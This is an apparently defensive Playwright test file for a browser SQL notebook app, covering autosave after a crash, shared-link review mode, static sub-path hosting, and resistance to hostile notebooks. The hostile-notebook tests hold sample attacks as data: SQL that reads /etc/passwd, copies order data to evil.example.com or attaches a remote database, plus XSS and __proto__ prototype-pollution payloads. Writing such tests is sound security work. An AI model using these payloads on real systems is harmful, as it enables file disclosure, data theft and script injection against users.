@@ -1,0 +1,207 @@
+/**
+ * The notebook lives on: autosave survives a reload and a killed browser, a shared link opens
+ * in review mode in a fresh profile, hostile notebooks can do no harm, and the app works from
+ * a sub-path of a static host.
+ */
+import { afterAll, describe, expect, inject, test } from 'vitest';
+import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { chromium, type BrowserContext, type Page } from 'playwright-core';
+import { closeBrowser, openApp } from './browser';
+import { toDocument, type NotebookDoc } from '../../src/lib/notebook/document';
+import { encodeShareFragment } from '../../src/lib/notebook/share-link';
+import type { Cell } from '../../src/lib/notebook/cells';
+
+const ARGS = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--disable-dev-shm-usage'];
+const dirs: string[] = [];
+afterAll(async () => {
+  await closeBrowser();
+  for (const d of dirs) rmSync(d, { recursive: true, force: true });
+});
+
+async function persistent(dir: string): Promise<{ context: BrowserContext; page: Page }> {
+  const context = await chromium.launchPersistentContext(dir, { executablePath: process.env.CHROMIUM_PATH || '/usr/bin/chromium', headless: true, args: ARGS });
+  const page = context.pages()[0] ?? (await context.newPage());
+  return { context, page };
+}
+
+/** SIGKILLs every Chromium process using profile `dir`, as a crash or a killed tab would end them. */
+function killProfileBrowsers(dir: string): void {
+  for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
+    try {
+      const cmd = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
+      if (cmd.includes(dir) && /chrom/i.test(cmd.split('\0')[0])) process.kill(Number(pid), 'SIGKILL');
+    } catch {
+      /* gone already */
+    }
+  }
+}
+
+async function ready(page: Page): Promise<void> {
+  await page.waitForSelector('html[data-ready="true"]', { timeout: 90_000 });
+}
+
+async function typeSql(page: Page, sql: string): Promise<void> {
+  await page.getByTestId('add-sql').last().click();
+  const editor = page.getByTestId('cell').last().locator('.cm-content');
+  await editor.click();
+  await page.keyboard.press('ControlOrMeta+a');
+  await editor.fill(sql);
+}
+
+describe('autosave', () => {
+  test('an edit made a moment before the browser is killed is back after a restart, with the loaded file', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'segnote-profile-'));
+    dirs.push(dir);
+    const url = inject('baseUrl');
+    let { context, page } = await persistent(dir);
+    await page.goto(url);
+    await ready(page);
+    await page.getByTestId('file-input').setInputFiles([{ name: 'kept.csv', mimeType: 'text/csv', buffer: Buffer.from('v\n40\n2\n') }]);
+    await page.locator('[data-table="kept"]').waitFor();
+    await typeSql(page, 'SELECT sum(v) AS answer FROM kept -- typed just before the crash');
+    await page.getByTestId('save-state').and(page.locator('[data-state="saved"]')).waitFor();
+    // Kill the browser outright: no unload handlers, no graceful shutdown.
+    killProfileBrowsers(dir);
+    await context.close().catch(() => undefined);
+    ({ context, page } = await persistent(dir));
+    try {
+      await page.goto(url);
+      await ready(page);
+      const last = page.getByTestId('cell').last();
+      expect(await last.locator('.cm-content').textContent()).toBe('SELECT sum(v) AS answer FROM kept -- typed just before the crash');
+      await page.locator('[data-table="kept"]').waitFor();
+      await last.and(page.locator('[data-status="done"]')).waitFor();
+      await last.locator('[data-row="0"] .td').first().filter({ hasText: /^42$/ }).waitFor();
+    } finally {
+      await context.close();
+    }
+  });
+});
+
+describe('sharing', () => {
+  test('a shared link opens in review mode in a fresh profile; nothing runs until approved; results match', async () => {
+    const app = await openApp();
+    try {
+      await typeSql(app.page, "SELECT channel, count(*) AS n FROM orders GROUP BY channel ORDER BY channel");
+      await app.page.keyboard.press('Control+Enter');
+      const last = app.page.getByTestId('cell').last();
+      await last.and(app.page.locator('[data-status="done"]')).waitFor();
+      const name = (await last.getAttribute('data-name'))!;
+      const sharedRows = await last.getByTestId('row-count').getAttribute('data-rows');
+      await app.page.getByTestId('notebooks-button').click();
+      await app.page.getByTestId('nb-share').click();
+      const link = await app.page.evaluate(() => (window as unknown as { __segnoteLastLink: string }).__segnoteLastLink);
+      expect(link).toMatch(/#nb=[A-Za-z0-9_-]+$/);
+
+      const other = await openApp({ path: link.slice(link.indexOf('#')) });
+      try {
+        const review = other.page.getByTestId('review-panel');
+        await review.waitFor();
+        const sql = await other.page.getByTestId('review-sql').allTextContents();
+        expect(sql).toContain('SELECT channel, count(*) AS n FROM orders GROUP BY channel ORDER BY channel');
+        expect(await other.page.getByTestId('cell').count()).toBe(0);
+        expect(await other.page.locator('[data-testid="review-table"][data-status="matched"]').count()).toBeGreaterThan(0);
+        await other.page.getByTestId('review-run').click();
+        const cell = other.page.locator(`[data-testid="cell"][data-name="${name}"]`);
+        await cell.and(other.page.locator('[data-status="done"]')).waitFor();
+        expect(await cell.getByTestId('row-count').getAttribute('data-rows')).toBe(sharedRows);
+        expect(other.foreignRequests).toEqual([]);
+      } finally {
+        await other.close();
+      }
+    } finally {
+      await app.close();
+    }
+  });
+});
+
+describe('hostile notebooks', () => {
+  const hostileCells = [
+    { id: 'h1', kind: 'sql', name: 'read_passwd', sql: "SELECT * FROM read_csv('/etc/passwd')" },
+    { id: 'h2', kind: 'sql', name: 'fetch_out', sql: "SELECT * FROM read_csv('https://evil.example.com/x.csv')" },
+    { id: 'h3', kind: 'sql', name: 'copy_out', sql: "COPY (SELECT * FROM orders) TO 'https://evil.example.com/steal.csv'" },
+    { id: 'h4', kind: 'sql', name: 'load_ext', sql: 'INSTALL httpfs; LOAD httpfs' },
+    { id: 'h5', kind: 'sql', name: 'unlock', sql: 'SET enable_external_access = true' },
+    { id: 'h6', kind: 'sql', name: 'attach', sql: "ATTACH 'https://evil.example.com/db.duckdb' AS evil" },
+    { id: 'h7', kind: 'sql', name: '<img src=x onerror="window.__pwned=1">', sql: `SELECT '<script>window.__pwned=2</script>' AS "<img src=y onerror=window.__pwned=3>", 'javascript:window.__pwned=4' AS link` },
+    { id: 'h8', kind: 'notes', name: 'notes', text: '<script>window.__pwned=5</script>\n\n[click](javascript:window.__pwned=6)\n\n<img src=z onerror="window.__pwned=7">' },
+    { id: 'h9', kind: 'chart', name: 'chart"<b>', spec: { source: '<svg onload=window.__pwned=8>', mark: 'bar', x: '<b>x</b>', y: null, color: null, aggregate: 'count' } },
+  ] as Cell[];
+
+  test('after approval they fail or show text, with no request outside the origin, no script and no polluted prototype', async () => {
+    const doc: NotebookDoc = toDocument('Hostile <script>window.__pwned=9</script>', hostileCells, { autoRun: true }, [{ name: '__proto__', columns: [] }]);
+    const fragment = await encodeShareFragment(doc);
+    const app = await openApp({ path: fragment });
+    try {
+      await app.page.getByTestId('review-panel').waitFor();
+      // The review shows the statements as text.
+      expect((await app.page.getByTestId('review-sql').allTextContents()).join('\n')).toContain('/etc/passwd');
+      await app.page.getByTestId('review-run').click();
+      for (const name of ['read_passwd', 'fetch_out', 'copy_out', 'load_ext', 'unlock', 'attach']) {
+        const cell = app.page.locator(`[data-testid="cell"][data-name="${name}"]`);
+        await cell.and(app.page.locator('[data-status="error"]')).waitFor();
+      }
+      const injected = app.page.locator('[data-testid="cell"][data-name^="<img"]');
+      await injected.and(app.page.locator('[data-status="done"]')).waitFor();
+      expect(await injected.locator('.td').first().filter({ hasNotText: 'Loading' }).textContent()).toBe('<script>window.__pwned=2</script>');
+      await app.page.waitForTimeout(0);
+      const result = await app.page.evaluate(() => ({
+        pwned: (window as unknown as { __pwned?: number }).__pwned,
+        protoKeys: Object.getOwnPropertyNames(Object.prototype).sort().join(','),
+        polluted: ({} as Record<string, unknown>).polluted,
+      }));
+      expect(result.pwned).toBeUndefined();
+      expect(result.polluted).toBeUndefined();
+      expect(result.protoKeys).toBe(Object.getOwnPropertyNames(Object.prototype).sort().join(','));
+      expect(app.foreignRequests).toEqual([]);
+      expect(app.pageErrors).toEqual([]);
+    } finally {
+      await app.close();
+    }
+  });
+
+  test('a notebook link with prototype-pollution keys is refused with a message', async () => {
+    const raw = `{"format":"segnote-notebook","version":1,"cells":[],"__proto__":{"polluted":true}}`;
+    const bytes = new Uint8Array(await new Response(new Blob([raw]).stream().pipeThrough(new CompressionStream('deflate-raw'))).arrayBuffer());
+    const fragment = `#nb=${Buffer.from(bytes).toString('base64url')}`;
+    const app = await openApp({ path: fragment });
+    try {
+      await app.page.getByTestId('library-message').waitFor();
+      expect(await app.page.getByTestId('library-message').textContent()).toMatch(/forbidden key "__proto__"/);
+      expect(await app.page.evaluate(() => ({} as Record<string, unknown>).polluted)).toBeUndefined();
+      expect(await app.page.getByTestId('cell').count()).toBeGreaterThan(0);
+    } finally {
+      await app.close();
+    }
+  });
+});
+
+describe('static hosting', () => {
+  test('the built app works from a sub-path of a plain static host', async () => {
+    const base = new URL(inject('baseUrl'));
+    const app = await openApp({ waitReady: false, path: 'about:blank' });
+    try {
+      // The host serves the built app under /team/segnote/ and nothing else: a request for
+      // /assets/... (an absolute path) would fail, as it would on a project page.
+      const outside: string[] = [];
+      await app.context.route(`${base.origin}/**`, async (route) => {
+        const url = new URL(route.request().url());
+        if (!url.pathname.startsWith('/team/segnote/')) {
+          outside.push(url.pathname);
+          return route.fulfill({ status: 404, body: 'not here' });
+        }
+        url.pathname = url.pathname.replace('/team/segnote/', '/');
+        await route.fulfill({ response: await route.fetch({ url: url.toString() }) });
+      });
+      await app.page.goto(`${base.origin}/team/segnote/`);
+      await ready(app.page);
+      expect(await app.page.locator('[data-name="monthly_revenue"]').getAttribute('data-status')).toBe('done');
+      expect(outside).toEqual([]);
+      expect(app.foreignRequests).toEqual([]);
+    } finally {
+      await app.close();
+    }
+  });
+});
